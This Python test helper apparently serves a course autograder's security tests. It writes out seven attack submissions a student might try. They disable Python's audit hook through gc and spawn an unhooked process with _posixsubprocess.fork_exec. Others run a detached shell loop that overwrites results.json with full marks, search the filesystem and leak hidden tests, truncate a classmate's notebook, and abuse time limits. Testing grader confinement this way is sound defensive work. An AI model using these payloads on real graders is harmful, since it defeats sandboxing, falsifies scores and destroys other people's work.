"""Seven attacks on the grader, as a motivated student would write them: 1.1 submissions whose every point depends on
a breach (each returns the right answer only if the breach worked, and raises otherwise), so that a grade above a
blank's means the grader was reached. tests/exercises/grading/test_attacks.py grades them through ``otter run`` and
``grade_all``, under every confinement the machine offers.

1. find the audit hook with ``gc`` and make it a no-op, then import the book's package from where it lives;
2. start a hook-free Python with ``_posixsubprocess.fork_exec`` (no audit event) that imports the package;
3. a default argument that starts a detached (``setsid``) process rewriting ``results.json`` when it appears;
4. after 1, look everywhere for the autograder's configuration and tests and raise them, base64-encoded;
5. write a file with ``os.open(path, O_WRONLY)``, and read the package's checks through ``dir_fd``;
6. in ``grade_all``, truncate a classmate's notebook with ``os.open(..., O_WRONLY | O_TRUNC)``;
7. right answers that sleep just under the per-call time limit at every call;

and, with 7, a function that passes its public case and raises a hidden case's input as its message.
"""

from __future__ import annotations

import os

from mha.exercises.grading.confinement import MODE_VARIABLE, Unconfined, choose

TOKEN = "mha-attack-7f3e9c"  # in every process an attack starts, to find any left behind
UNHOOK = '''
def unhook():
    import gc
    def make(protected):
        def hook(event, args):
            return protected and None
        return hook
    for found in gc.get_objects():
        try:
            if type(found).__name__ == "function" and found.__name__ == "hook" and found.__code__.co_freevars:
                found.__code__ = make(None).__code__
        except Exception:
            pass
'''


def attack_notebook_one(package_parent: str, canary: str, results: str) -> dict[str, str]:
    """Attacks 1, 2, 3 and 5 (on my_softmax, my_attention, my_causal_mask, and a default argument): the answers
    of tests/submissions.py's ``notebook``."""
    softmax = UNHOOK + f'''
def my_softmax(scores):
    unhook()
    import sys
    sys.path.insert(0, {package_parent!r})
    from mha.core.attention_numpy import softmax
    return softmax(scores)
'''
    attention = f'''
def my_attention(q, k, v, mask=None):
    import _posixsubprocess, os, pickle, sys
    code = ("import pickle, sys; sys.path.insert(0, {package_parent!r}); "
            "from mha.core.attention_numpy import scaled_dot_product_attention as a; "
            "q, k, v, m = pickle.load(sys.stdin.buffer); sys.stdout.buffer.write(pickle.dumps(a(q, k, v, m)))")
    to_child, from_parent = os.pipe()
    to_parent, from_child = os.pipe()
    errors_read, errors_write = os.pipe()
    _posixsubprocess.fork_exec([sys.executable, "-c", code, "{TOKEN}"], [os.fsencode(sys.executable)], True, (),
                               None, None, to_child, from_parent, to_parent, from_child, -1, -1, errors_read,
                               errors_write, True, False, -1, None, None, None, -1, None, False)
    os.close(to_child)
    os.close(from_child)
    os.write(from_parent, pickle.dumps((q, k, v, mask)))
    os.close(from_parent)
    answer = b""
    while chunk := os.read(to_parent, 1 << 20):
        answer += chunk
    return pickle.loads(answer)
'''
    results_json = ('{"tests": [{"name": "ex-stable-softmax", "score": 2, "max_score": 2}, {"name": "ex-attention", '
                    '"score": 3, "max_score": 3}, {"name": "ex-causal-mask", "score": 2, "max_score": 2}], '
                    '"score": 7}')
    rewriter = (f"while :; do if [ -f {results} ]; then echo '{results_json}' > {results}; fi; sleep 0.05; done "
                f"# {TOKEN}")
    mask = f'''
def detached(_=__import__("_posixsubprocess").fork_exec(
        ["/bin/sh", "-c", {rewriter!r}], [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1, -1, -1,
        *__import__("os").pipe(), True, True, -1, None, None, None, -1, None, False)):
    return _

def my_causal_mask(n):
    import os
    written = os.open({canary!r}, os.O_WRONLY | os.O_TRUNC)
    os.write(written, b"changed by a submission")
    os.close(written)
    import numpy
    folder = os.path.join(os.path.dirname(os.path.dirname(numpy.__file__)), "mha", "exercises")
    for root in (folder, {package_parent!r} + "/mha/exercises"):
        try:
            checks = os.open(root, os.O_RDONLY)
            source = os.read(os.open("mechanism.py", os.O_RDONLY, dir_fd=checks), 1 << 20)
            break
        except OSError:
            source = b""
    if b"def check_causal_mask" not in source:
        raise RuntimeError("the checks were not readable")
    return numpy.tril(numpy.ones((n, n), dtype=bool))
'''
    return {"my_softmax": softmax, "my_attention": attention, "my_causal_mask": mask}


def attack_notebook_two(seconds_per_call: float) -> dict[str, str]:
    """Attacks 4 and 7 (on my_softmax, my_attention) and a hidden input raised (my_causal_mask)."""
    leak = UNHOOK + '''
def my_softmax(scores):
    unhook()
    import base64, os
    found = []
    for root, folders, files in os.walk("/"):
        folders[:] = [f for f in folders if os.path.join(root, f) not in ("/proc", "/sys", "/dev", "/usr")]
        for name in files:
            if name == "otter_config.json" or (name.startswith("ex-") and name.endswith(".py")):
                try:
                    found.append(open(os.path.join(root, name), "rb").read())
                except OSError:
                    pass
    raise RuntimeError("LEAK " + base64.b64encode(b"\\n".join(found)).decode() if found else "nothing found")
'''
    slow = f'''import time

def my_attention(q, k, v, mask=None):
    time.sleep({seconds_per_call!r})
    s = q @ k.T / np.sqrt(q.shape[-1])
    if mask is not None:
        s = np.where(mask, s, -np.inf)
    w = np.exp(s - s.max(axis=-1, keepdims=True))
    w = w / w.sum(axis=-1, keepdims=True)
    return w @ v, w
'''
    telling = '''
def my_causal_mask(n):
    if n not in (5, 1, 2, 3, 8):
        raise ValueError(f"HIDDEN INPUT n={n}")
    return np.tril(np.ones((n, n), dtype=bool))
'''
    return {"my_softmax": leak, "my_attention": slow, "my_causal_mask": telling}


def truncate_classmate(classmate: str) -> dict[str, str]:
    """Attack 6: each function truncates the classmate's notebook, then answers as a blank would."""
    truncate = UNHOOK + f'''
def truncate():
    unhook()
    import os
    try:
        os.close(os.open({classmate!r}, os.O_WRONLY | os.O_TRUNC))
    except OSError:
        pass
'''
    return {"my_softmax": truncate + "\ndef my_softmax(scores):\n    truncate()\n    raise NotImplementedError\n",
            "my_attention": "def my_attention(q, k, v, mask=None):\n    truncate()\n    raise NotImplementedError\n",
            "my_causal_mask": "def my_causal_mask(n):\n    truncate()\n    raise NotImplementedError\n"}


def left_behind() -> list[str]:
    """The command lines of the processes an attack started that are still running."""
    import os

    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                line = handle.read().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if TOKEN in line and int(pid) != os.getpid():
            found.append(line[:200])
    return found


def available_modes() -> list[str]:
    """The confinements this machine offers (the strongest first)."""
    found = []
    for mode in ("namespaces", "uid"):
        os.environ[MODE_VARIABLE] = mode
        try:
            choose([])
            found.append(mode)
        except Unconfined:
            pass
        finally:
            del os.environ[MODE_VARIABLE]
    return found
